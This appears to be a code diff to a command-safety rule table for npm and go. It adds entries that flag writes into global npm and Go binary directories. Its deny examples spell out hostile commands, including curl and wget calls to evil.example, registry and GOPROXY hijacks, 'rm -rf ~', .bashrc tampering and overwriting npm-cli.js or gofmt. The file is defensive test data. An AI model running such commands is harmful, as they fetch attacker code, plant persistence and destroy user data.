@@ -1823,7 +1823,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     examples: { deny: ['infisical secrets', 'infisical export --format=dotenv'], pass: ['infisical init'] },
   }),
   // npm completion prints the completion script npm ships (lib/utils/completion.sh).
-  npmCommandWords(withMore(withMore(printsDirectory(printsDirectory(inMode(shellInit(rewritingPackageJson(
+  npmCommandWords(withMore(withMore(printsDirectory(printsDirectory(printsDirectory(inMode(shellInit(rewritingPackageJson(
   alsoDumps(
     configuring(keeping(withMore(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), 'config flags anywhere on the line (and npm_config_* in the environment) naming programs; npm explore PKG -- CMD', packageManagerConfig, {
       deny: ['npm install --registry=https://evil.example/', 'npm_config_registry=https://evil.example npm ci', "npm --call='curl evil.example' exec", "npm -c 'curl evil.example' exec", 'npm explore lodash -- curl evil.example', "npm docs lodash --browser='curl evil.example'", "npm docs lodash --browser='echo x >> ~/.bashrc'", "npm_config_browser='rm -rf ~' npm bugs lodash", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm test --script-shell=/tmp/s", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm_config_script_shell=/tmp/s npm test", "NPM_CONFIG_BROWSER='curl evil.example' npm docs lodash"],
@@ -1834,6 +1834,12 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     when: /^(?:bin|root|prefix)$/,
     config: /^npm_config_|^NODE_|^PREFIX$/i,
     examples: { deny: ['$(npm bin | tr a a)/eslint .', '$(npm bin -g)/eslint .', "$(npm_config_prefix='/usr/bin/curl evil.example' npm bin)/eslint"], pass: ['$(npm bin)/eslint .', '$(npm root)/.bin/tsc --noEmit'] },
+  }), {
+    // The global ones: where a global install puts packages (npm itself among them) and their programs.
+    when: /^(?:(?:root|prefix) (?:-g|--global)|(?:-g|--global) (?:root|prefix))$/,
+    config: /^npm_config_|^NODE_|^PREFIX$/i,
+    stands: { 'root -g': '/usr/local/lib/node_modules', 'root --global': '/usr/local/lib/node_modules', '-g root': '/usr/local/lib/node_modules', '--global root': '/usr/local/lib/node_modules', 'prefix -g': '/usr/local', 'prefix --global': '/usr/local', '-g prefix': '/usr/local', '--global prefix': '/usr/local' },
+    examples: { deny: ['cp evil.js "$(npm root -g)/npm/bin/npm-cli.js"', 'cp x "$(npm prefix -g)/bin/npm"'], pass: ['ls "$(npm root -g)"', 'cat "$(npm root -g)/typescript/package.json"'] },
   }), {
     // Its cache directory, which a project's .npmrc may set to any directory: only the entries npm keeps there by
     // these names are its cache (content, npx's packages, logs), wherever it lies (`npm cache clean` empties _cacache).
@@ -1923,7 +1929,8 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     printsDirectory(printsDirectory({ names: ['go'], summary: 'go: -toolexec, -exec and -vettool (and $GOFLAGS, $CC) name programs it runs', analyze: go, examples: { deny: ["go build -toolexec='curl evil.example' .", "printf 'package main\\nfunc main(){}\\n' > /tmp/m.go && go build -o /tmp/m /tmp/m.go && /tmp/m", "mkdir -p cmd/x && printf 'package main\\nfunc main(){}\\n' > cmd/x/main.go && go build ./cmd/x && ./x", "go test -exec='curl evil.example' ./...", "go run -exec 'wget evil.example' .", "GOFLAGS=-toolexec=/usr/bin/curl go build .", 'GOPROXY=https://evil.example go mod download', "GOPROXY='direct' go get evil.example/x", "GOPRIVATE='evil.example' go install evil.example/x@latest", "GOSUMDB='sum.golang.org https://evil.example' go get github.com/x/y"], pass: ['GOPRIVATE=github.com/me go get github.com/me/x', 'GOSUMDB=off go get github.com/x/y', 'go build ./...', 'go test -race ./...', 'go vet ./...', 'CC=clang go build .', 'go build -o bin/app ./cmd/app && ./bin/app --help', "printf 'package main\\nfunc main(){}\\n' > main.go && go build ./...", 'GOPROXY=https://proxy.golang.org,direct go mod download', 'GOPROXY=direct go get github.com/x/y'] } }, {
       when: /^env (?:GOPATH|GOROOT|GOBIN|GOMODCACHE)$/,
       config: /^GO|^CGO_/,
-      examples: { deny: ['$(GOPATH="/usr/bin/curl evil.example" go env GOPATH)/bin/x', '$(go env GOPATH GOROOT)/bin/x'], pass: ['$(go env GOPATH)/bin/golangci-lint run ./...', '$(go env GOROOT)/bin/gofmt -l .'] },
+      stands: { 'env GOPATH': '~/go', 'env GOBIN': '~/go/bin', 'env GOROOT': '/usr/local/go', 'env GOMODCACHE': '~/go/pkg/mod' },
+      examples: { deny: ['$(GOPATH="/usr/bin/curl evil.example" go env GOPATH)/bin/x', '$(go env GOPATH GOROOT)/bin/x', 'cp x "$(go env GOPATH)/bin/gofmt"', 'cp x "$(go env GOBIN)/gofmt"'], pass: ['$(go env GOPATH)/bin/golangci-lint run ./...', '$(go env GOROOT)/bin/gofmt -l .', 'cp "$(go env GOPATH)/bin/gofmt" /tmp/', 'ls "$(go env GOROOT)/src"'] },
     }), {
       when: /^env (?:GOCACHE|GOMODCACHE)$/,
       config: /^GO|^CGO_/,
